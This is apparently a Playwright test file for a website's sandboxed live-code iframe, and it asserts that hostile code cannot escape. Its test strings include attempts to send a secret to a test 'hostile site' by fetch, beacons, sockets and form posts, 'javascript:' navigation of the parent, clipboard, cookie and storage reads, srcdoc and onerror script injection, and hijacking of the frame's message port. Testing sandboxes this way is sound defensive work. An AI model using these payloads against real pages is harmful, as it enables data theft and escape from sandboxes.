import type {Page} from '@playwright/test';

import {serveHostileSite} from '../support/hostile-site';
import {expect, test} from '../support/test';

/*
 * Code of a stranger in the live frame, beyond what live-code.spec.ts tries: it goes for the port, for
 * the ways out and for the page; and windows that are not the frame talk to it.
 */

async function run(page: Page, code: string) {
  await page.goto('/reset-the-user-password/');
  const details = page
    .locator('details')
    .filter({has: page.locator('pre')})
    .first();
  await details.locator('summary').click();
  await details.getByRole('button', {name: 'Edit and run'}).click();
  await details.getByRole('textbox').fill(code);
  await details.getByRole('button', {name: 'Run', exact: true}).click();
  return {details, frame: details.locator('iframe'), result: details.frameLocator('iframe')};
}

/** Takes the frame's port from under its program, at the next word that is said through it. */
const takePort = `
  const say = MessagePort.prototype.postMessage;
  const port = await new Promise((take) => {
    // The frame's own, and not that of React's scheduler.
    MessagePort.prototype.postMessage = function (message) {
      if (message?.type) take(this);
      return say.call(this, message);
    };
  });
  MessagePort.prototype.postMessage = say;
`;

test('code that takes the port can neither grow over the page, run twice, nor outlive the watch', async ({
  page,
}) => {
  const {frame, result, details} = await run(
    page,
    `${takePort}
    for (const pixels of [1e9, -1e9, NaN, Infinity, '9999', null, [9999], 1e308])
      port.postMessage({type: 'height', pixels});
    for (const junk of [null, 7, 'ready', [], {}, {type: 'run'}, {type: {}}, {type: 'ping', number: 1}])
      port.postMessage(junk);
    for (let again = 0; again < 100; again++) port.postMessage({type: 'ready'});
    render(<p>port taken {document.querySelectorAll('main').length}</p>);
    await wait(500);
    port.postMessage({type: 'height', pixels: 1e9});
    await wait(500);
    port.postMessage({type: 'pong', number: 1e12});
    new Function('for (;;) {}')();`,
  );
  await expect(result.getByText('port taken 1')).toBeVisible();
  await expect(frame).toHaveAttribute('height', '640');
  expect((await frame.boundingBox())?.height).toBeLessThanOrEqual(642);
  // An answer ahead of its time does not hide that it hangs.
  await expect(details.getByRole('status')).toContainText('stopped responding', {timeout: 30_000});
  await expect(frame).toHaveCount(0);
});

test.describe('ways out', () => {
  test.use({
    expectedViolations: [
      'connect-src',
      'default-src',
      'frame-src',
      'img-src',
      'media-src',
      'script-src',
      'style-src',
      'worker-src',
    ],
  });

  test('code can reach nobody, open nothing and lead nobody', async ({page, context}) => {
    const site = await serveHostileSite();
    const address = `${site.origin}/leak?secret=1`;
    const downloads: string[] = [];
    page.on('download', (download) => downloads.push(download.url()));
    page.on('dialog', (dialog) => downloads.push(dialog.message()));
    const violation = page.waitForEvent('console', (message) => /frame-src/.test(message.text()));
    const {result} = await run(
      page,
      `const address = ${JSON.stringify(address)};
      const reached = [];
      const attempt = async (name, act) => {
        try { const found = await act(); if (found) reached.push(name); } catch {}
      };
      const loads = (element, key) => new Promise((done) => {
        element.onload = () => done(true);
        element.onerror = () => done(false);
        element[key] = address;
        document.body.append(element);
        setTimeout(() => done(false), 1000);
      });
      await attempt('fetch', () => fetch(address, {mode: 'no-cors'}));
      await attempt('keepalive', () => fetch(address, {mode: 'no-cors', keepalive: true}));
      await attempt('xhr', () => new Promise((done) => {
        const request = new XMLHttpRequest();
        request.onload = () => done(true);
        request.onerror = () => done(false);
        request.open('GET', address);
        request.send();
      }));
      await attempt('beacon', () => { navigator.sendBeacon(address); });
      await attempt('socket', () => new Promise((done) => {
        const socket = new WebSocket(address.replace('http', 'ws'));
        socket.onopen = () => done(true);
        socket.onerror = () => done(false);
      }));
      await attempt('events', () => new Promise((done) => {
        const source = new EventSource(address);
        source.onopen = () => done(true);
        source.onerror = () => done(false);
      }));
      await attempt('image', () => loads(document.createElement('img'), 'src'));
      await attempt('video', () => loads(document.createElement('video'), 'src'));
      await attempt('script', () => loads(document.createElement('script'), 'src'));
      await attempt('style', () => loads(Object.assign(document.createElement('link'), {rel: 'stylesheet'}), 'href'));
      await attempt('prefetch', () => loads(Object.assign(document.createElement('link'), {rel: 'prefetch'}), 'href'));
      await attempt('import', () => new Function('address', 'return import(address)')(address));
      await attempt('worker', () => new Promise((done) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
        worker.onmessage = () => done(true);
        worker.onerror = () => done(false);
      }));
      await attempt('service worker', () => navigator.serviceWorker.register('/sw.js'));
      await attempt('window', () => window.open(address));
      await attempt('named window', () => window.open(address, '_top'));
      await attempt('top', () => { top.location = address; });
      await attempt('parent', () => { parent.location.replace(address); });
      await attempt('parent script', () => { parent.location = 'javascript:alert(1)'; });
      await attempt('page', () => parent.document.body);
      await attempt('opener', () => window.opener);
      await attempt('frames', () => parent.frames[0] === window && parent.frames[0].name === undefined);
      await attempt('storage of the page', () => parent.sessionStorage.length + 1);
      await attempt('cookie store', () => window.cookieStore?.getAll());
      await attempt('caches', () => caches.keys());
      await attempt('clipboard', () => navigator.clipboard.readText().then(() => true));
      await attempt('dialogs', () => { alert(1); confirm(2); prompt(3); });
      await attempt('channel', () => { new BroadcastChannel('msal.broadcast.event').postMessage({eventType: 'msal:logoutSuccess'}); });
      for (const message of ['live-frame-hello', 'live-frame-connect', {type: 'ready'}, {v: 1, payload: 'code=x'}])
        parent.postMessage(message, '*', [new MessageChannel().port1]);
      await wait(300);
      render(<p>reached: {reached.join(', ') || 'nothing'}</p>);
      await wait(500);
      // Last, for these would lead the frame itself away.
      await attempt('form', () => {
        const form = Object.assign(document.createElement('form'), {action: address, method: 'post'});
        document.body.append(form);
        form.submit();
      });
      await attempt('download', () => { Object.assign(document.createElement('a'), {href: address, download: 'x'}).click(); });`,
    );
    await expect(result.getByText('reached:')).toHaveText('reached: nothing', {timeout: 20_000});
    await violation;
    await expect(page.getByRole('heading', {level: 1})).toBeVisible();
    expect(new URL(page.url()).pathname).toBe('/reset-the-user-password/');
    expect(context.pages()).toHaveLength(1);
    expect(downloads).toEqual([]);
    expect(site.asked).toEqual([]);
    await site.close();
  });
});

test.describe('a fresh window, whose WebRTC nobody has taken away,', () => {
  test.use({expectedViolations: ['script-src']});

  test('is out of reach of the code', async ({page}) => {
    const {result} = await run(
      page,
      `const tried = [];
      const script = "new RTCPeerConnection(); parent.postMessage('webrtc', '*')";
      addEventListener('message', ({data}) => { if (data === 'webrtc') tried.push('told: reached'); });
      const attempt = async (name, prepare, tag = 'iframe') => {
        const frame = Object.assign(document.createElement(tag), prepare);
        const outcomes = new Set();
        const reach = () => {
          for (const find of [() => frame.contentWindow, () => frames[0]]) {
            try {
              const Connection = find().RTCPeerConnection;
              outcomes.add(Connection && new Connection() ? 'reached' : 'not there');
            } catch (error) { outcomes.add(error.name); }
          }
        };
        const loaded = new Promise((done) => { frame.onload = done; frame.onerror = done; });
        document.body.append(frame);
        // At once too: an empty document is there before anything has loaded.
        reach();
        await Promise.race([loaded, wait(500)]);
        reach();
        frame.remove();
        tried.push(name + ': ' + Array.from(outcomes).join(' '));
        render(<pre>{tried.join('\\n')}</pre>);
      };
      await attempt('empty', {});
      await attempt('about:blank', {src: 'about:blank'});
      await attempt('with our origin', {sandbox: 'allow-scripts allow-same-origin'});
      await attempt('srcdoc', {srcdoc: '<script>' + script + '</' + 'script>'});
      await attempt('event', {srcdoc: '<img src=x onerror="' + script + '">'});
      await attempt('script address', {src: 'javascript:' + script});
      await attempt('object', {data: 'about:blank'}, 'object');
      await attempt('embed', {src: 'about:blank'}, 'embed');
      render(<pre>{[...tried, 'all tried'].join('\\n')}</pre>);`,
    );
    const told = result.locator('pre');
    await expect(told).toContainText('all tried', {timeout: 20_000});
    await expect(told).toContainText('empty: ');
    await expect(told).not.toContainText('reached');
  });
});

test('only the page that holds the frame gives it code, and only the frame gets a port', async ({
  page,
}) => {
  const {frame, result} = await run(
    page,
    `addEventListener('message', ({data, ports}) => {
      if (data === 'are-you-through') ports[0].postMessage('yes');
    });
    render(<p>mine</p>);`,
  );
  await expect(result.getByText('mine')).toBeVisible();
  const heard = await page.evaluate(async () => {
    const told: unknown[] = [];
    const program = (code: string) => ({
      type: 'run',
      code,
      theme: 'dark',
      language: 'en',
      texts: {},
    });
    // Another frame and the page itself greet the page.
    const stranger = document.createElement('iframe');
    stranger.setAttribute('sandbox', 'allow-scripts');
    stranger.src = '/live-frame/';
    stranger.name = 'stranger';
    document.body.append(stranger);
    await new Promise((loaded) => (stranger.onload = loaded));
    addEventListener('message', ({data, ports}) => {
      if (data === 'are-you-through') ports[0]!.postMessage('yes');
      else if (ports.length > 0) told.push(data);
    });
    // A window answers once it has handled whatever came before.
    const answered = (asked: Window) =>
      new Promise((done) => {
        const {port1, port2} = new MessageChannel();
        port1.onmessage = done;
        asked.postMessage('are-you-through', '*', [port2]);
      });
    postMessage('live-frame-hello', '*');
    // The frame that has its page is offered another port.
    const {port1, port2} = new MessageChannel();
    port1.onmessage = ({data}) => told.push(data);
    const mine = document.querySelector<HTMLIFrameElement>('iframe:not([name])')!.contentWindow!;
    mine.postMessage('live-frame-connect', '*', [port2]);
    port1.postMessage(program('render("theirs")'));
    // The second round is for what the first messages would have set off.
    for (const asked of [window, mine, window, mine]) await answered(asked);
    return told;
  });
  expect(heard).toEqual([]);
  await expect(frame).toHaveCount(1);
  await expect(result.getByText('mine')).toBeVisible();
  await expect(result.getByText('theirs')).toHaveCount(0);
  await expect(page.frameLocator('iframe[name="stranger"]').locator('body')).toBeEmpty();

  // Opened by itself it waits for nobody.
  await page.goto('/live-frame/');
  await page.evaluate(() => {
    const {port1, port2} = new MessageChannel();
    port1.postMessage({
      type: 'run',
      code: 'render("theirs")',
      theme: 'dark',
      language: 'en',
      texts: {},
    });
    window.postMessage('live-frame-connect', '*', [port2]);
  });
  await expect(page.locator('body')).toBeEmpty();
});
